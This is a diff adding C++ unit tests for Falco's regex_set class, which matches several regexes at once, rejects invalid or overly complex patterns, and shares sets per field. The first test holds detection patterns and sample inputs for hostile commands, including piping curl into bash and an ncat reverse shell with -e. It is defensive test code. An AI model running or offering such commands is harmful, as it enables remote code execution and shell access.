@@ -0,0 +1,93 @@
+/*
+Copyright (C) 2022 The Falco Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+#include <string.h>
+
+#include "regex_set.h"
+#include "falco_common.h"
+#include <catch.hpp>
+
+static void scan(regex_set &set, const char *text)
+{
+	set.scan(text, strlen(text));
+}
+
+TEST_CASE("Regexes are matched at once", "[regex_set]")
+{
+	regex_set set;
+
+	uint32_t curl = set.add("curl .*\\| *(ba)?sh");
+	uint32_t nc = set.add("^nc(at)? .*-e");
+	uint32_t tmp = set.add("/tmp/[^/]+$");
+	REQUIRE(set.add("^nc(at)? .*-e") == nc);
+	REQUIRE(set.size() == 3);
+
+	scan(set, "sh -c curl http://example.com/x | bash");
+	REQUIRE(set.matches(curl));
+	REQUIRE_FALSE(set.matches(nc));
+	REQUIRE_FALSE(set.matches(tmp));
+
+	scan(set, "ncat 10.0.0.1 4444 -e /tmp/sh");
+	REQUIRE_FALSE(set.matches(curl));
+	REQUIRE(set.matches(nc));
+	REQUIRE(set.matches(tmp));
+
+	scan(set, "echo nc -e /tmp/a/b");
+	REQUIRE_FALSE(set.matches(curl));
+	REQUIRE_FALSE(set.matches(nc));
+	REQUIRE_FALSE(set.matches(tmp));
+}
+
+TEST_CASE("Regexes can be added after a scan", "[regex_set]")
+{
+	regex_set set;
+
+	uint32_t a = set.add("^a+$");
+	scan(set, "aaa");
+	REQUIRE(set.matches(a));
+
+	uint32_t b = set.add("a{3}");
+	scan(set, "aaa");
+	REQUIRE(set.matches(a));
+	REQUIRE(set.matches(b));
+}
+
+TEST_CASE("Invalid and too complex regexes are rejected", "[regex_set]")
+{
+	regex_set set;
+
+	REQUIRE_THROWS_AS(set.add("(unbalanced"), falco_exception);
+
+	// Backreferences can't be matched in linear time
+	REQUIRE_THROWS_AS(set.add("(a)\\1"), falco_exception);
+
+	REQUIRE_THROWS_AS(set.add("((a{100}){100}){100}"), falco_exception);
+	REQUIRE_THROWS_AS(set.add(std::string(regex_set::max_pattern_len + 1, 'a')), falco_exception);
+
+	REQUIRE(set.size() == 0);
+}
+
+TEST_CASE("Regex sets of the same field are shared", "[regex_set]")
+{
+	regex_set_index index;
+
+	auto a = index.get("syscall", "proc.cmdline");
+	auto b = index.get("syscall", "proc.cmdline");
+	auto c = index.get("k8s_audit", "proc.cmdline");
+
+	REQUIRE(a == b);
+	REQUIRE(a != c);
+}